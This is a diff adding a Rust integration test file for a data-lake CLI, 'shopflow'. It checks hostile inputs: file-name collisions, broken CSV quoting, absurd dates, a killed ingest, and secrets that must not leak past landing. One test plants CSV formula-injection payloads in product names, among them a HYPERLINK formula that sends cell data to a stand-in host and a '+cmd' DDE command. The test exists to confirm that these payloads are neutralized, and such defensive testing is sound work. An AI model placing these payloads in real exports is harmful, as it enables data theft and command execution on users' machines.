@@ -1,0 +1,371 @@
+//! Hostile and broken inputs through the real binary: every defect a hostile-user review
+//! confirmed (rows lost, processes killed, values leaked, exit 0) as a test that failed before
+//! the fix.
+
+use std::path::Path;
+use std::process::Command;
+
+use super::{manifests, ok, shopflow, snapshot};
+
+const TX_HEADER: &str =
+    "transaction_id,customer_id,product_id,quantity,unit_price,transaction_date\n";
+
+fn tx_rows(prefix: &str, n: usize, day: &str) -> String {
+    let mut body = String::from(TX_HEADER);
+    for i in 0..n {
+        body.push_str(&format!("{prefix}{i},C1,P1,1,2.50,{day}T10:00:00Z\n"));
+    }
+    body
+}
+
+fn silver_count(lake: &str, table: &str) -> u64 {
+    let out = ok(&[
+        "query",
+        "--lake",
+        lake,
+        "--format",
+        "json",
+        &format!("SELECT COUNT(*) AS n FROM {table}"),
+    ]);
+    let rows: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
+    rows[0]["n"].as_u64().unwrap()
+}
+
+#[test]
+fn two_different_files_landing_under_one_name_are_refused_before_anything_is_copied() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    for (folder, prefix) in [("a", "A"), ("b", "B")] {
+        std::fs::create_dir_all(dir.path().join(folder)).unwrap();
+        std::fs::write(
+            dir.path().join(folder).join("transactions.csv"),
+            tx_rows(prefix, 5, "2026-11-20"),
+        )
+        .unwrap();
+    }
+    let a = dir.path().join("a").to_str().unwrap().to_string();
+    let b = dir.path().join("b").to_str().unwrap().to_string();
+    let out = shopflow(&["ingest", "--lake", lake_s, &a, &b]);
+    assert!(
+        !out.status.success(),
+        "two folders' transactions.csv must not pass"
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("collision") && err.contains("landing/transactions/transactions.csv"),
+        "{err}"
+    );
+    assert!(
+        !lake.join("landing").exists() || snapshot(&lake.join("landing")).is_empty(),
+        "nothing copied"
+    );
+
+    // Names that only collide once a space is rewritten.
+    let c = dir.path().join("c");
+    std::fs::create_dir_all(&c).unwrap();
+    std::fs::write(c.join("transactions 1.csv"), tx_rows("S", 3, "2026-11-20")).unwrap();
+    std::fs::write(c.join("transactions_1.csv"), tx_rows("U", 3, "2026-11-20")).unwrap();
+    let out = shopflow(&["ingest", "--lake", lake_s, c.to_str().unwrap()]);
+    assert!(!out.status.success());
+
+    // The same bytes twice are one object, not a collision; each distinct file's rows arrive.
+    std::fs::write(
+        dir.path().join("b").join("transactions.csv"),
+        tx_rows("A", 5, "2026-11-20"),
+    )
+    .unwrap();
+    ok(&["ingest", "--lake", lake_s, &a, &b]);
+    assert_eq!(silver_count(lake_s, "transactions"), 5);
+}
+
+#[test]
+fn an_unclosed_quote_costs_one_row_and_the_ten_thousand_after_it_reach_silver() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    let mut body = String::from(TX_HEADER);
+    body.push_str("T-broken,C1,\"P1,1,2.50,2026-11-20T10:00:00Z\n");
+    for i in 0..10_000 {
+        body.push_str(&format!("T{i},C1,P1,1,2.50,2026-11-20T10:00:00Z\n"));
+    }
+    let file = dir.path().join("transactions.csv");
+    std::fs::write(&file, body).unwrap();
+    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
+    let m = &manifests(&lake)[0];
+    assert_eq!(m["rows_in"], 10_001);
+    assert_eq!(m["rows_silver"], 10_000);
+    assert_eq!(m["rows_quarantined"], 1);
+    assert_eq!(silver_count(lake_s, "transactions"), 10_000);
+}
+
+#[test]
+fn a_sale_dated_9999_is_rejected_by_the_plausible_date_rule_and_the_report_still_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    let mut body = tx_rows("T", 20, "2026-11-20");
+    body.push_str("TX,C1,P1,1,2.50,9999-12-31T10:00:00Z\n");
+    body.push_str("TY,C1,P1,1,2.50,+200000-01-01T10:00:00Z\n");
+    let file = dir.path().join("transactions.csv");
+    std::fs::write(&file, body).unwrap();
+    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
+    let m = &manifests(&lake)[0];
+    assert_eq!(m["rows_silver"], 20);
+    let rejected = m["rejected_by_rule"].as_object().unwrap();
+    let plausible = rejected
+        .get("transactions.transaction_date.plausible")
+        .and_then(serde_json::Value::as_u64)
+        .unwrap_or(0);
+    let unparsed = rejected
+        .get("transactions.transaction_date.type")
+        .and_then(serde_json::Value::as_u64)
+        .unwrap_or(0);
+    assert_eq!(plausible + unparsed, 2, "{rejected:?}");
+    assert!(
+        plausible >= 1,
+        "9999-12-31 parses and is caught by the range: {rejected:?}"
+    );
+    let out = ok(&["report", "--lake", lake_s]);
+    assert!(
+        out.contains("2026-11-20"),
+        "the default day is the real one: {out}"
+    );
+    let dates = ok(&[
+        "query",
+        "--lake",
+        lake_s,
+        "--format",
+        "json",
+        "SELECT CAST(MIN(calendar_date) AS VARCHAR) AS lo, CAST(MAX(calendar_date) AS VARCHAR) AS hi FROM dim_date",
+    ]);
+    assert!(
+        !dates.contains("9999") && !dates.contains("200000"),
+        "{dates}"
+    );
+}
+
+/// A CSV cell a spreadsheet would execute.
+fn executes(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.trim().parse::<f64>().is_err()
+}
+
+fn csv_cells(bytes: &[u8]) -> Vec<String> {
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(bytes);
+    r.records()
+        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+#[test]
+fn report_and_query_csvs_neutralize_formula_cells_and_parquet_keeps_the_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let products = format!(
+        "product_id,name,category,price\nP1,\"{}\",\"@SUM(1+1)\",2.50\nP2,\"+cmd|' /C calc'!A0\",-x,3.00\n",
+        evil.replace('"', "\"\"")
+    );
+    std::fs::write(dir.path().join("products.csv"), products).unwrap();
+    let mut tx = String::from(TX_HEADER);
+    for i in 0..10 {
+        tx.push_str(&format!(
+            "T{i},C1,P{},1,2.50,2026-11-20T10:00:00Z\n",
+            1 + i % 2
+        ));
+    }
+    std::fs::write(dir.path().join("transactions.csv"), tx).unwrap();
+    ok(&["ingest", "--lake", lake_s, dir.path().to_str().unwrap()]);
+    ok(&["report", "--lake", lake_s, "--date", "2026-11-20"]);
+    let report_dir = lake.join("reports/daily/date=2026-11-20");
+    let mut seen_evil = false;
+    for (name, bytes) in snapshot(&report_dir) {
+        if !name.ends_with(".csv") {
+            continue;
+        }
+        for cell in csv_cells(&bytes) {
+            assert!(!executes(&cell), "{name}: {cell:?}");
+            seen_evil |= cell == format!("'{evil}");
+        }
+    }
+    assert!(
+        seen_evil,
+        "the product name is in a report CSV, neutralized"
+    );
+    let out = ok(&[
+        "query",
+        "--lake",
+        lake_s,
+        "--format",
+        "csv",
+        "SELECT name, category, price FROM products",
+    ]);
+    let cells = csv_cells(out.as_bytes());
+    assert!(cells.iter().all(|c| !executes(c)), "{cells:?}");
+    assert!(cells.contains(&format!("'{evil}")));
+    // The table keeps the value as it came.
+    let json = ok(&[
+        "query",
+        "--lake",
+        lake_s,
+        "--format",
+        "json",
+        "SELECT name FROM products WHERE product_id = 'P1'",
+    ]);
+    let rows: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
+    assert_eq!(rows[0]["name"], evil);
+}
+
+#[test]
+fn eleven_hundred_event_days_stream_through_under_lambdas_open_file_limit() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let mut body = String::from(TX_HEADER);
+    let start = chrono::NaiveDate::from_ymd_opt(2023, 1, 1).unwrap();
+    for i in 0..20_000u64 {
+        let day = start + chrono::Days::new(i % 1100);
+        body.push_str(&format!("T{i},C1,P1,1,2.50,{day}T10:00:00Z\n"));
+    }
+    let file = dir.path().join("transactions.csv");
+    std::fs::write(&file, body).unwrap();
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!(
+            "ulimit -n 1024 && exec \"$0\" ingest --lake '{}' '{}'",
+            lake.display(),
+            file.display()
+        ))
+        .arg(env!("CARGO_BIN_EXE_shopflow"))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let m = &manifests(&lake)[0];
+    assert_eq!(m["rows_silver"], 20_000);
+    let days = ok(&[
+        "query",
+        "--lake",
+        lake.to_str().unwrap(),
+        "--format",
+        "json",
+        "SELECT COUNT(DISTINCT dt) AS d FROM transactions",
+    ]);
+    assert!(days.contains("1100"), "{days}");
+}
+
+#[test]
+fn a_killed_ingest_leaves_nothing_that_blocks_or_duplicates_the_retry() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    let file = dir.path().join("transactions.csv");
+    std::fs::write(&file, tx_rows("K", 200_000, "2026-11-20")).unwrap();
+    // Kill the first run once its work directory exists (it is staging the file).
+    let mut child = Command::new(env!("CARGO_BIN_EXE_shopflow"))
+        .args(["ingest", "--lake", lake_s])
+        .arg(&file)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let tmp = lake.join(".tmp");
+    let started = std::time::Instant::now();
+    let work_dirs = |tmp: &Path| -> usize {
+        std::fs::read_dir(tmp)
+            .map(|d| {
+                d.flatten()
+                    .filter(|e| {
+                        e.file_name()
+                            .to_string_lossy()
+                            .starts_with("shopflow-work-")
+                    })
+                    .count()
+            })
+            .unwrap_or(0)
+    };
+    while work_dirs(&tmp) == 0 && started.elapsed() < std::time::Duration::from_secs(120) {
+        if child.try_wait().unwrap().is_some() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let killed = child.try_wait().unwrap().is_none();
+    child.kill().ok();
+    child.wait().unwrap();
+    if killed {
+        assert_eq!(work_dirs(&tmp), 1, "the killed run left its work directory");
+    }
+    // The retry is not refused for 15 minutes by the dead run's claim, cleans the dead run's
+    // work directory, and leaves every row once.
+    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
+    assert_eq!(work_dirs(&tmp), 0, "no work directory is left");
+    assert_eq!(silver_count(lake_s, "transactions"), 200_000);
+    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
+    assert_eq!(silver_count(lake_s, "transactions"), 200_000);
+}
+
+#[test]
+fn secrets_in_arrays_and_under_common_spellings_never_pass_landing() {
+    let dir = tempfile::tempdir().unwrap();
+    let lake = dir.path().join("lake");
+    let lake_s = lake.to_str().unwrap();
+    let secrets = [
+        "4111111111111111",
+        "GB82WEST12345698765432",
+        "hunter2-pass",
+        "8642",
+        "9753",
+        "5500005555555559",
+        "4012888888881881",
+        "12345678",
+        "321",
+        "s3cr3t-token-value",
+    ];
+    let users = serde_json::json!({ "users": [{
+        "customer_id": "C1", "name": "Ann", "email": "ann@example.com", "country": "DE",
+        "cards": [{ "cardNumber": secrets[0], "brand": "visa" }],
+        "accounts": [{ "iban": secrets[1], "bank": "B" }],
+        "pass": secrets[2], "pin": secrets[3], "cvv2": secrets[4],
+        "card_no": secrets[5], "cc_num": secrets[6], "accountNumber": secrets[7],
+        "securityCode": secrets[8], "profile": { "sessionToken": secrets[9] }
+    }]});
+    std::fs::write(dir.path().join("customers.json"), users.to_string()).unwrap();
+    ok(&[
+        "ingest",
+        "--lake",
+        lake_s,
+        dir.path().join("customers.json").to_str().unwrap(),
+    ]);
+    for (name, bytes) in snapshot(&lake) {
+        if name.starts_with("landing/") {
+            continue;
+        }
+        let text = String::from_utf8_lossy(&bytes);
+        for s in secrets {
+            assert!(!text.contains(s), "{s} leaked into {name}");
+        }
+        // Parquet pages are compressed: look inside them too.
+        if name.ends_with(".parquet") {
+            let file = std::fs::File::open(lake.join(&name)).unwrap();
+            let reader =
+                parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file)
+                    .unwrap()
+                    .build()
+                    .unwrap();
+            for batch in reader {
+                let batch = batch.unwrap();
+                let text = format!("{batch:?}");
+                for s in secrets {
+                    assert!(!text.contains(s), "{s} leaked into {name}");
+                }
+            }
+        }
+    }
+}
